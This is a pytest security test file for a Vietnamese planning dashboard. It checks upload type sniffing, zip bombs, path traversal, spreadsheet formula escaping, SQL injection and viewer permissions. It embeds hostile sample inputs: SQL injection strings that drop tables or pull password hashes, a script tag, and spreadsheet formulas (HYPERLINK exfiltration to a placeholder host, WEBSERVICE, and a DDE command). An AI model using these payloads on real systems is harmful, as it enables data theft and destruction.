"""Hardening: uploads checked by content, formula injection, no formula execution, no raw
HTML, SQL injection through every reachable text field, and the write paths closed to
viewers in the dashboard and on the command line.
"""
from __future__ import annotations

import ast
import importlib.util
import inspect
import io
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest
from streamlit.testing.v1 import AppTest

from chitieu import auth, excel_safe, filetypes
from chitieu.errors import UserError
from chitieu.model import ExtractedPlan, Locality, PlanTarget
from chitieu.store import close_db, memory_db, open_db, query_df
from chitieu.store import audit as audit_store
from chitieu.store import plans as plan_store
from chitieu.store import users as user_store
from tests.conftest import login_form
from tests.test_auth import PASSWORD, run_cli
from tests.test_faults import INDICATORS, import_bytes, seed, workbook

ROOT = Path(__file__).resolve().parent.parent
INJECTIONS = [
    "'); DROP TABLE plans; --",
    "x' OR '1'='1",
    '"; DROP TABLE users; --',
    "1; DELETE FROM audit_log; --",
    "Robert'); DROP TABLE targets;--",
    "%' OR 1=1 --",
    "\\'; DROP TABLE actuals; --",
    "=HYPERLINK(\"http://x.invalid/?\"&A1)",
    "<script>alert(1)</script>",
    "Xã Ba Tơ' UNION SELECT password_hash FROM users --",
]
TABLES = ["meta", "admin_units", "unit_crosswalk", "localities", "indicators", "plans", "targets", "uploads",
          "actuals", "users", "user_localities", "audit_log"]


@pytest.fixture(autouse=True)
def fast_bcrypt(monkeypatch):
    monkeypatch.setattr(auth, "BCRYPT_ROUNDS", 4)


def xlsx_bytes(rows=(("a", 1),)) -> bytes:
    wb = openpyxl.Workbook()
    for r in rows:
        wb.active.append(list(r))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def docx_bytes() -> bytes:
    import docx
    buf = io.BytesIO()
    docx.Document().save(buf)
    return buf.getvalue()


def zip_bytes(files: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files.items():
            z.writestr(name, data)
    return buf.getvalue()


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504


# ---- type by content, size, bombs ---------------------------------------------------------

@pytest.mark.parametrize("data, kind", [
    (xlsx_bytes(), "xlsx"),
    (docx_bytes(), "docx"),
    (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "pdf"),
    ("Kế hoạch phát triển kinh tế - xã hội năm 2025\n".encode(), "text"),
    ("Kế hoạch".encode("utf-16"), "text"),
    (OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted-office"),
    (OLE + "Workbook".encode("utf-16-le"), "xls"),
    (OLE + "WordDocument".encode("utf-16-le"), "doc"),
    (zip_bytes({"a.txt": b"x"}), "zip"),
    (b"PK\x03\x04 truncated", "zip"),
    (b"\x89PNG\r\n\x1a\n\x00\x00", "unknown"),
    (b"MZ\x90\x00\x03\x00\x00\x00", "unknown"),
    (b"", "empty"),
])
def test_sniff_decides_by_content(data, kind):
    assert filetypes.sniff(data) == kind


@pytest.mark.parametrize("data, name, allowed, code", [
    (b"%PDF-1.4 ...", "bao_cao.xlsx", ("xlsx",), "wrong-file-type"),          # a PDF renamed .xlsx
    (b"MZ\x90\x00 program", "bao_cao.xlsx", ("xlsx",), "wrong-file-type"),   # a program renamed .xlsx
    (docx_bytes(), "bao_cao.xlsx", ("xlsx",), "wrong-file-type"),           # a Word file renamed
    (b"<html><script>alert(1)</script>", "ke_hoach.pdf", ("pdf", "docx"), "wrong-file-type"),
    (OLE + "EncryptedPackage".encode("utf-16-le"), "bao_cao.xlsx", ("xlsx",), "encrypted-file"),
    (b"", "bao_cao.xlsx", ("xlsx",), "empty-file"),
    (b"PK\x03\x04" + b"\x00" * 100, "bao_cao.xlsx", ("xlsx", "zip"), "corrupt-file"),
])
def test_check_upload_refuses_by_content(data, name, allowed, code):
    with pytest.raises(UserError) as e:
        filetypes.check_upload(data, name, allowed)
    assert e.value.code == code and e.value.vi and e.value.en


def test_check_upload_accepts_real_files_whatever_their_name():
    assert filetypes.check_upload(xlsx_bytes(), "bao cao (cuoi).XLS", ("xlsx",)) == "xlsx"
    assert filetypes.check_upload(docx_bytes(), "no-extension", ("docx", "pdf", "text")) == "docx"


def test_size_limit_from_settings(monkeypatch):
    monkeypatch.setenv("CHITIEU_UPLOAD_MAX_MB", "0.001")   # ~1 KB
    with pytest.raises(UserError) as e:
        filetypes.check_upload(b"x" * 2000, "a.txt", ("text",))
    assert e.value.code == "file-too-large" and "CHITIEU_UPLOAD_MAX_MB" in e.value.en
    assert filetypes.check_upload(b"x" * 500, "a.txt", ("text",)) == "text"


def test_zip_bomb_is_refused():
    bomb = zip_bytes({"xl/workbook.xml": b"<x/>", "xl/worksheets/sheet1.xml": b"\x00" * (30 * 1024 * 1024)})
    assert len(bomb) < 100_000
    with pytest.raises(UserError) as e:
        filetypes.check_upload(bomb, "bom.xlsx", ("xlsx",), max_bytes=1024 * 1024)
    assert e.value.code == "file-too-large"


@pytest.mark.parametrize("name, shown", [
    ("../../etc/passwd", "passwd"), ("C:\\Users\\x\\bao_cao.xlsx", "bao_cao.xlsx"),
    ("a\x00b\nc.xlsx", "a_b_c.xlsx"), ("", "tep"), ("báo cáo.xlsx", "báo cáo.xlsx")])
def test_safe_name(name, shown):
    assert filetypes.safe_name(name) == shown


def test_excel_reader_refuses_bad_files_by_content():
    from loaders.actuals.excel_read import read_workbook
    for data in (b"%PDF-1.4", b"MZ\x90\x00", docx_bytes(), OLE + "EncryptedPackage".encode("utf-16-le"),
                 b"PK\x03\x04" + b"\x00" * 64, b""):
        with pytest.raises(UserError):
            read_workbook(data, "bao_cao.xlsx")


def test_plan_reader_refuses_bad_files_by_content():
    from loaders.plans.extract import extract_document
    for data in (b"MZ\x90\x00\x03\x00\x00\x00" * 8, OLE + "EncryptedPackage".encode("utf-16-le"), xlsx_bytes(),
                 b"\x89PNG\r\n\x1a\n\x00\x00\x00\x0d", b"PK\x03\x04" + b"\x00" * 64, b""):
        with pytest.raises(UserError):
            extract_document(data, "ke_hoach.docx")


# ---- formula injection and formula execution ----------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "=cmd|' /C calc'!A0"])
def test_formula_text_is_escaped_and_round_trips(text):
    escaped = excel_safe.escape_cell(text)
    assert escaped == "'" + text and excel_safe.unescape_cell(escaped) == text
    wb = openpyxl.Workbook()
    wb.active["A1"] = escaped
    buf = io.BytesIO()
    wb.save(buf)
    cell = openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["Sheet"]["A1"]
    assert cell.data_type == "s" and cell.value == escaped


@pytest.mark.parametrize("value", [5, -5, 1.5, None, "Xã Ba Tơ", "", "a=b", "'quoted"])
def test_harmless_values_pass_unchanged(value):
    assert excel_safe.escape_cell(value) == value and excel_safe.unescape_cell(value) == value


def test_escape_frame_for_csv_and_excel_downloads():
    import pandas as pd
    df = pd.DataFrame({"=name": ["=1+1", "ok"], "value": [-1.0, 2.0]})
    out = excel_safe.escape_frame(df)
    assert list(out.columns) == ["'=name", "value"] and list(out["'=name"]) == ["'=1+1", "ok"]
    assert list(out["value"]) == [-1.0, 2.0] and list(df["=name"]) == ["=1+1", "ok"]


def formula_cells(data: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}={c.value}" for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_exported_template_escapes_names_taken_from_plans():
    from loaders.actuals.excel_template import template_bytes
    con = memory_db()
    seed(con, [])
    evil = "=HYPERLINK(\"http://x.invalid/?\"&A1,\"Xã\")"
    loc = Locality(name=evil, level="commune", province="@Quảng Ngãi", scheme="gso_2025", code="97000")
    plan_store.save_plan(con, ExtractedPlan(
        plan_key="evil", source_file="evil.txt", sha256="x", text="t", locality=loc, year=2025,
        targets=[PlanTarget(indicator=INDICATORS[0], comparator="ge", value=5, unit="%", scope="-dân số",
                            text="+1")]), actor="t")
    data = template_bytes(con, ["gso_2025:97000"], 2025)
    assert formula_cells(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data))["Số liệu"]
    values = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + evil in values and "'-dân số" in values


def test_formulas_in_uploads_are_never_evaluated():
    """A formula cell without a cached value stays empty: the reader never computes it."""
    from loaders.actuals.excel_read import read_workbook
    con = memory_db()
    seed(con, ["97100"])
    wb = openpyxl.load_workbook(io.BytesIO(workbook(con, ["97100"], 7.5)))
    ws = wb["Số liệu"]
    ws["L5"] = "=1+1"
    ws["L6"] = '=WEBSERVICE("http://x.invalid/")'
    ws["O7"] = "=2*21"
    buf = io.BytesIO()
    wb.save(buf)
    rows = read_workbook(buf.getvalue(), "f.xlsx").rows
    by_row = {r.row: r for r in rows}
    assert all(r.value not in (2, 2.0) for r in rows)
    assert 5 not in by_row or by_row[5].value in (None, "")
    assert 6 not in by_row or by_row[6].value in (None, "")
    assert all("42" not in str(r.note) for r in rows)


# ---- no raw HTML from data ----------------------------------------------------------------

def ui_sources() -> list[Path]:
    return [ROOT / "dashboard.py", *sorted((ROOT / "views").glob("*.py")), *sorted((ROOT / "ui").glob("*.py"))]


def _html_arg_is_safe(node: ast.AST) -> bool:
    """A literal, or an f-string whose every value goes through html.escape."""
    if isinstance(node, ast.Constant):
        return True
    if isinstance(node, ast.JoinedStr):
        return all(isinstance(v, ast.Constant) or (
            isinstance(v, ast.FormattedValue) and isinstance(v.value, ast.Call)
            and getattr(v.value.func, "attr", getattr(v.value.func, "id", "")) == "escape") for v in node.values)
    return False


def _literal_constants(tree: ast.Module) -> set[str]:
    """Module-level names bound once to a string literal (a CSS constant): as safe as the literal."""
    bound: dict[str, list[ast.AST]] = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.Assign):
            for target in node.targets:
                if isinstance(target, ast.Name):
                    bound.setdefault(target.id, []).append(node.value)
    return {n for n, values in bound.items() if len(values) == 1 and isinstance(values[0], ast.Constant)
            and isinstance(values[0].value, str) and any(isinstance(s, ast.Assign) and s.value is values[0]
                                                         for s in tree.body)}


def test_no_raw_html_from_data():
    problems = []
    for path in ui_sources():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        constants = _literal_constants(tree)
        for node in ast.walk(tree):
            if not isinstance(node, ast.Call):
                continue
            name = getattr(node.func, "attr", getattr(node.func, "id", ""))
            unsafe = any(k.arg == "unsafe_allow_html" and not (isinstance(k.value, ast.Constant)
                                                              and k.value.value is False) for k in node.keywords)
            first = node.args[0] if node.args else None
            if isinstance(first, ast.Name) and first.id in constants:
                continue
            if (unsafe or name == "html") and not (first is not None and _html_arg_is_safe(first)):
                problems.append(f"{path.name}:{node.lineno}")
    assert problems == []


def test_no_streamlit_outside_pages_and_ui():
    for path in [*(ROOT / "chitieu").rglob("*.py"), *(ROOT / "loaders").rglob("*.py")]:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        names = [a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names]
        names += [n.module or "" for n in ast.walk(tree) if isinstance(n, ast.ImportFrom)]
        assert not any(n.split(".")[0] == "streamlit" for n in names), path


# ---- SQL injection through every reachable text field -------------------------------------

def table_state(con) -> dict:
    names = set(query_df(con, "SELECT table_name FROM information_schema.tables")["table_name"])
    return {"tables": names >= set(TABLES),
            **{t: int(query_df(con, f"SELECT count(*) AS n FROM {t}")["n"][0]) for t in TABLES}}


def evil_plan(i: int, s: str) -> ExtractedPlan:
    loc = Locality(name=s, level="commune", province=s, scheme="gso_2025", code=f"98{i:03d}")
    return ExtractedPlan(
        plan_key=s, source_file=s, sha256=s, text=s, locality=loc, year=2025, title=s, notes=[s],
        targets=[PlanTarget(indicator=s, comparator="ge", value=1.0, unit=s, scope=s, text=s, indicator_label=s,
                            note=s)])


def test_injection_through_plan_user_and_audit_stores():
    con = memory_db()
    seed(con, ["98999"])
    before = table_state(con)
    for i, s in enumerate(INJECTIONS):
        plan_store.save_plan(con, evil_plan(i, s), actor=s)
        got = plan_store.plan_targets(con, s)
        assert len(got) == 1 and got["scope"][0] == s and got["indicator"][0] == s and got["plan_key"][0] == s
        assert len(plan_store.targets_for(con, "gso_2025", f"98{i:03d}", 2025)) == 1
        assert plan_store.targets_for(con, s, s, 2025).empty
        assert plan_store.stored_plan_fingerprint(con, s)[0] == s
        assert plan_store.delete_plan(con, s + "' OR '1'='1", actor=s) is False
        user_store.add_user(con, s, "viewer", auth.hash_password(PASSWORD), display_name=s, localities=[(s, s)],
                            actor=s)
        assert user_store.get_user(con, s)["display_name"] == s
        assert user_store.get_user(con, s + "' OR '1'='1") is None
        assert user_store.set_localities(con, s, [(s, s + "2")], actor=s) == [(s, s), (s, s + "2")]
        assert user_store.find_localities(con, s) == [] or all(r[2] == s for r in user_store.find_localities(con, s))
        assert user_store.ancestors(con, s, s) == []
        assert auth.authenticate(con, s, PASSWORD) is None          # invalid as a login name
        user_store.set_disabled(con, s + "' OR '1'='1", True, actor=s)
        assert audit_store.recent(con, action=s).empty
    after = table_state(con)
    n = len(INJECTIONS)
    assert after["tables"] and after["plans"] == before["plans"] + n and after["targets"] == before["targets"] + n
    assert after["users"] == n and after["user_localities"] == 2 * n and after["uploads"] == before["uploads"]
    assert not query_df(con, "SELECT * FROM users WHERE disabled")["username"].tolist()
    assert set(query_df(con, "SELECT actor FROM audit_log WHERE actor <> 'seed'")["actor"]) == set(INJECTIONS)


def test_injection_through_read_queries():
    """Every read function of the store modules, with injected text in each text parameter."""
    import chitieu.store.actuals as actuals_store
    import chitieu.store.reads as reads
    import chitieu.store.units as units_store
    con = memory_db()
    seed(con, ["98900"])
    before = table_state(con)
    called = []
    for module in (reads, actuals_store, units_store, plan_store, user_store, audit_store):
        for name, fn in inspect.getmembers(module, inspect.isfunction):
            if name.startswith("_") or fn.__module__ != module.__name__ or name in WRITERS or \
                    next(iter(inspect.signature(fn).parameters), "") != "con":
                continue
            for s in INJECTIONS[:4]:
                args = fake_args(fn, s)
                if args is None:
                    break
                try:
                    fn(con, *args)
                except (UserError, ValueError, KeyError, LookupError) as exc:
                    assert not type(exc).__module__.startswith(("duckdb", "_duckdb")), (name, exc)
                called.append(name)
    assert {"actual_history", "history", "current_actuals", "targets_for", "search_units"} <= set(called)
    assert table_state(con) == before


WRITERS = {"load_units", "sync_catalogue", "save_plan", "delete_plan", "store_preview", "undo_upload", "add_user",
           "set_password", "set_disabled", "set_role", "set_localities", "restore_plan", "event", "add_first_admin",
           "meta_secret"}


def fake_args(fn, s: str):
    """Arguments after `con` for a read function: injected text for text, 2025 for numbers;
    None when a required parameter is of another kind (the function is then skipped)."""
    out = []
    params = list(inspect.signature(fn).parameters.values())[1:]
    for p in params:
        if p.kind in (p.KEYWORD_ONLY, p.VAR_KEYWORD, p.VAR_POSITIONAL):
            continue
        ann = str(p.annotation)
        if "tuple[str, str]" in ann:
            out.append((s, s))
        elif "str" in ann and not any(x in ann for x in ("list", "dict", "Preview")):
            out.append(s)
        elif "int" in ann:
            out.append(2025)
        elif p.default is not p.empty:
            break
        else:
            return None
    return out


def test_injection_through_actuals_upload_cells_and_file_name():
    con = memory_db()
    seed(con, ["98800"])
    before = table_state(con)
    for s in INJECTIONS:
        wb = openpyxl.load_workbook(io.BytesIO(workbook(con, ["98800"], 7.5 + len(s))))
        ws = wb["Số liệu"]
        cell = excel_safe.escape_cell(s)              # typed as text (a formula would just be empty)
        ws["O5"] = cell                               # note: stored as written
        ws["F6"] = cell                               # scope: a row error, nothing stored for it
        ws["A7"] = cell                               # locality code
        ws["D8"] = cell                               # indicator code
        buf = io.BytesIO()
        wb.save(buf)
        from loaders.actuals.upload import dry_run
        preview = dry_run(con, buf.getvalue(), s + ".xlsx", s)
        assert not preview.ok and len(preview.issues) >= 2
        wb2 = openpyxl.load_workbook(io.BytesIO(workbook(con, ["98800"], 9.5 + len(s))))
        wb2["Số liệu"]["O5"] = excel_safe.escape_cell(s)
        buf2 = io.BytesIO()
        wb2.save(buf2)
        upload_id = import_bytes(con, buf2.getvalue(), s + ".xlsx", s)
        up = query_df(con, "SELECT file_name, uploader FROM uploads WHERE upload_id = ?", [upload_id])
        assert up.values.tolist() == [[filetypes.safe_name(s + ".xlsx"), s]]
        note = query_df(con, "SELECT note FROM actuals WHERE upload_id = ? AND note <> ''", [upload_id])
        assert note["note"].tolist() == [s]
    after = table_state(con)
    assert after["tables"] and after["uploads"] == before["uploads"] + len(INJECTIONS)
    assert after["plans"] == before["plans"] and after["targets"] == before["targets"]


def test_injection_through_the_command_line(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("CHITIEU_PASSWORD", PASSWORD)  # the acting user's password (chitieu.auth.cli_user)
    db = tmp_path / "cli.duckdb"
    con = open_db(db)
    seed(con, ["98700"])
    data = workbook(con, ["98700"], 7.5)
    before = table_state(con)
    dbarg = ["--db", str(db)]
    assert run_cli(["users", "add", "admin", "--role", "admin", "--password-stdin", *dbarg], PASSWORD + "\n") == 0
    for s in INJECTIONS:
        assert run_cli(["users", "add", s, "--role", "viewer", "--password-stdin", "--user", "admin", *dbarg],
                       PASSWORD + "\n") == 2
        assert run_cli(["users", "assign", "admin", "--locality", s, "--user", "admin", *dbarg]) == 2
        assert run_cli(["users", "disable", s, "--user", "admin", *dbarg]) == 2
        assert run_cli(["users", "list", "--user", s, *dbarg]) == 0
        assert run_cli(["users", "passwd", "admin", "--password-stdin", "--user", s, *dbarg], PASSWORD + "\n") == 2
    name = tmp_path / ("'); DROP TABLE plans; --.xlsx")
    name.write_bytes(data)
    assert run_cli(["import-actuals", str(name), "--user", "admin", *dbarg]) == 0
    err = capsys.readouterr().err
    assert "Traceback" not in err
    after = table_state(con)
    assert after["tables"] and after["plans"] == before["plans"] and after["users"] == 1
    assert query_df(con, "SELECT file_name FROM uploads")["file_name"].tolist() == [name.name]
    close_db(db)


# ---- write paths closed to viewers: command line ------------------------------------------

@pytest.fixture
def shared_db(tmp_path, monkeypatch):
    monkeypatch.setenv("CHITIEU_PASSWORD", PASSWORD)  # every user below has it; the CLI checks it
    db = tmp_path / "rights.duckdb"
    con = open_db(db)
    seed(con, ["99000", "99001"])
    user_store.add_user(con, "xem", "viewer", auth.hash_password(PASSWORD), actor="t")
    user_store.add_user(con, "lan", "analyst", auth.hash_password(PASSWORD),
                        localities=[("gso_2025", "99000")], actor="t")
    user_store.add_user(con, "quantri", "admin", auth.hash_password(PASSWORD), actor="t")
    yield db
    close_db(db)


def counts(db) -> dict:
    con = open_db(db)
    return {t: int(query_df(con, f"SELECT count(*) AS n FROM {t}")["n"][0])
            for t in ("plans", "targets", "uploads", "actuals", "users", "user_localities")}


@pytest.mark.parametrize("who", [None, "xem", "ghost"])
def test_viewer_anonymous_or_unknown_cannot_write_through_the_cli(shared_db, tmp_path, who, capsys):
    data = workbook(open_db(shared_db), ["99000"], 7.5)
    path = tmp_path / "bao_cao.xlsx"
    path.write_bytes(data)
    before = counts(shared_db)
    as_ = ["--user", who] if who else []
    db = ["--db", str(shared_db)]
    assert run_cli(["import-actuals", str(path), *as_, *db]) != 0
    assert run_cli(["users", "add", "moi", "--role", "admin", "--password-stdin", *as_, *db], PASSWORD + "\n") != 0
    assert run_cli(["users", "assign", "xem", "--locality", "gso_2025:99001", *as_, *db]) != 0
    assert run_cli(["users", "disable", "quantri", *as_, *db]) != 0
    assert counts(shared_db) == before
    assert "Traceback" not in capsys.readouterr().err


@pytest.mark.parametrize("who", [None, "xem"])
def test_viewer_cannot_build(shared_db, who):
    before = counts(shared_db)
    assert run_cli(["build", *(["--user", who] if who else []), "--db", str(shared_db)]) != 0
    assert counts(shared_db) == before


def test_analyst_cannot_import_for_another_locality_through_the_cli(shared_db, tmp_path):
    con = open_db(shared_db)
    own, other = tmp_path / "own.xlsx", tmp_path / "other.xlsx"
    own.write_bytes(workbook(con, ["99000"], 7.5))
    other.write_bytes(workbook(con, ["99001"], 7.5))
    db = ["--db", str(shared_db)]
    assert run_cli(["import-actuals", str(other), "--user", "lan", *db]) != 0
    assert counts(shared_db)["actuals"] == 0
    assert run_cli(["import-actuals", str(own), "--user", "lan", *db]) == 0
    assert query_df(con, "SELECT DISTINCT locality_code, created_by FROM actuals").values.tolist() == [["99000", "lan"]]


# ---- write paths closed to viewers: dashboard ---------------------------------------------

def page_app(db: Path, monkeypatch, page: str, user: str | None) -> AppTest:
    monkeypatch.setenv("CHITIEU_DB", str(db))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60)
    if user:
        at.session_state["chitieu_user"] = user
    at.run()
    at.switch_page(page)
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


WRITE_WIDGETS = ("plan_file", "actuals_file", "save_plan", "confirm_upload", "undo_btn")


def write_widgets(at: AppTest) -> list[str]:
    keys = [getattr(w, "key", None) or w.proto.id for w in at.get("file_uploader")]
    keys += [b.key for b in at.button if b.key in WRITE_WIDGETS]
    return keys


@pytest.fixture
def ui_db(shared_db):
    """The shared database with one upload, so the undo button would show."""
    con = open_db(shared_db)
    import_bytes(con, workbook(con, ["99000"], 7.5), "first.xlsx", "lan")
    return shared_db


def test_analyst_sees_the_upload_widgets(ui_db, monkeypatch):
    for page in ("views/plans.py", "views/actuals.py"):
        assert write_widgets(page_app(ui_db, monkeypatch, page, "lan")), page


@pytest.mark.parametrize("user", [None, "xem", "lan-disabled"])
@pytest.mark.parametrize("page", ["views/plans.py", "views/actuals.py"])
def test_viewer_or_anonymous_sees_no_write_widget(ui_db, monkeypatch, page, user):
    if user == "lan-disabled":
        user_store.set_disabled(open_db(ui_db), "lan", True, actor="t")
        user = "lan"
    at = page_app(ui_db, monkeypatch, page, user)
    assert write_widgets(at) == []


def test_audit_page_is_for_admins_only(ui_db, monkeypatch):
    for user in (None, "xem", "lan"):
        monkeypatch.setenv("CHITIEU_DB", str(ui_db))
        at = AppTest.from_file(str(ROOT / "views" / "audit.py"), default_timeout=60)
        if user:
            at.session_state["chitieu_user"] = user
        at.run()
        assert not at.dataframe and at.warning, user
    at = AppTest.from_file(str(ROOT / "views" / "audit.py"), default_timeout=60)
    at.session_state["chitieu_user"] = "quantri"
    at.run()
    assert not at.exception and at.dataframe
    log = at.dataframe[0].value
    assert {"Thêm người dùng", "Lưu kế hoạch", "Tải lên số liệu"} <= set(log["action"])  # user.add, plan.store, ...
    assert "$2b$" not in log.to_csv() and PASSWORD not in log.to_csv()


def test_audit_page_listed_only_for_admins(ui_db, monkeypatch):
    for user, listed in ((None, False), ("xem", False), ("quantri", True)):
        monkeypatch.setenv("CHITIEU_DB", str(ui_db))
        at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60)
        if user:
            at.session_state["chitieu_user"] = user
        at.run()
        if listed:
            at.switch_page("views/audit.py")
            at.run()
            assert at.dataframe
        else:
            with pytest.raises(Exception):
                at.switch_page("views/audit.py")
                at.run()
                assert not at.exception and at.dataframe


login = login_form  # the one sign-in helper (tests/conftest.py)


def test_login_form_right_wrong_and_disabled(ui_db, monkeypatch):
    monkeypatch.setenv("CHITIEU_DB", str(ui_db))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60).run()
    login(at, "lan", "wrong-password")
    assert at.error and "chitieu_user" not in at.session_state
    login(at, "lan", PASSWORD)
    assert at.session_state["chitieu_user"] == "lan" and at.session_state["user"]["role"] == "analyst"
    user_store.set_disabled(open_db(ui_db), "lan", True, actor="quantri")
    at.run()                                                   # disabled mid-session: logged out
    assert "chitieu_user" not in at.session_state and "user" not in at.session_state
    at2 = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60).run()
    login(at2, "lan", PASSWORD)                                  # and cannot log in again
    assert at2.error and "chitieu_user" not in at2.session_state


def test_fresh_install_reads_without_login_and_says_how_to_create_the_admin(tmp_path, monkeypatch):
    db = tmp_path / "fresh.duckdb"
    seed(open_db(db), ["99500"])
    monkeypatch.setenv("CHITIEU_DB", str(db))
    at = AppTest.from_file(str(ROOT / "dashboard.py"), default_timeout=60).run()
    assert not at.exception
    assert any("Tạo quản trị viên đầu tiên" in i.value for i in at.info)   # the set-up form in the sidebar
    assert not any("python -m loaders" in i.value for i in at.info)
    close_db(db)


PLAN_FILE = sorted((ROOT / "data" / "plans").glob("*.txt"))[0]


def test_analyst_cannot_save_a_plan_for_another_locality_in_the_dashboard(shared_db, monkeypatch):
    before = counts(shared_db)
    at = page_app(shared_db, monkeypatch, "views/plans.py", "lan")
    at.file_uploader(key="plan_file").upload(PLAN_FILE.name, PLAN_FILE.read_bytes(), "text/plain").run()
    at.button(key="save_plan").click().run()
    assert not at.exception and at.error
    assert counts(shared_db) == before
    at = page_app(shared_db, monkeypatch, "views/plans.py", "quantri")        # an admin may
    at.file_uploader(key="plan_file").upload(PLAN_FILE.name, PLAN_FILE.read_bytes(), "text/plain").run()
    at.button(key="save_plan").click().run()
    assert not at.exception and counts(shared_db)["plans"] == before["plans"] + 1
    log = audit_store.recent(open_db(shared_db), action="plan.store")
    assert (log["actor"][0], log["entity_key"][0]) == ("quantri", PLAN_FILE.stem)


@pytest.mark.parametrize("page, key, name, data", [
    ("views/plans.py", "plan_file", "ke_hoach.docx", b"MZ\x90\x00\x03\x00\x00\x00" * 64),
    ("views/plans.py", "plan_file", "ke_hoach.pdf", b"%PDF-1.4\n garbage"),
    ("views/actuals.py", "actuals_file", "bao_cao.xlsx", b"%PDF-1.4\n garbage"),
    ("views/actuals.py", "actuals_file", "bao_cao.xlsx", OLE + "EncryptedPackage".encode("utf-16-le")),
])
def test_bad_files_uploaded_in_the_dashboard_give_a_message_not_a_crash(shared_db, monkeypatch, page, key, name,
                                                                         data):
    before = counts(shared_db)
    at = page_app(shared_db, monkeypatch, page, "quantri")
    at.file_uploader(key=key).upload(name, data, "application/octet-stream").run()
    assert not at.exception and at.error
    assert counts(shared_db) == before


def test_analyst_cannot_undo_another_localitys_upload(shared_db, monkeypatch):
    con = open_db(shared_db)
    upload_id = import_bytes(con, workbook(con, ["99001"], 7.5), "khac.xlsx", "quantri")
    at = page_app(shared_db, monkeypatch, "views/actuals.py", "lan")
    undo = [b for b in at.button if b.key == "undo_btn"]
    if undo:
        at.selectbox(key="undo_id").set_value(upload_id).run()
        next(b for b in at.button if b.key == "undo_btn").click().run()
    undone = query_df(open_db(shared_db), "SELECT undone_at FROM uploads WHERE upload_id = ?", [upload_id])
    assert undone["undone_at"].isna().all()


def test_plan_uploads_obey_the_size_limit_and_refuse_zip_bombs(monkeypatch):
    from loaders.plans.extract import extract_document
    monkeypatch.setenv("CHITIEU_UPLOAD_MAX_MB", "0.01")      # ~10 KB
    with pytest.raises(UserError) as e:
        extract_document(("Kế hoạch. Tốc độ tăng trưởng kinh tế đạt 7%. " * 1000).encode(), "kh.txt")
    assert e.value.code == "file-too-large"
    bomb = zip_bytes({"[Content_Types].xml": b"<x/>", "word/document.xml": b" " * (5 * 1024 * 1024)})
    with pytest.raises(UserError) as e:
        extract_document(bomb, "kh.docx")
    assert e.value.code == "file-too-large"
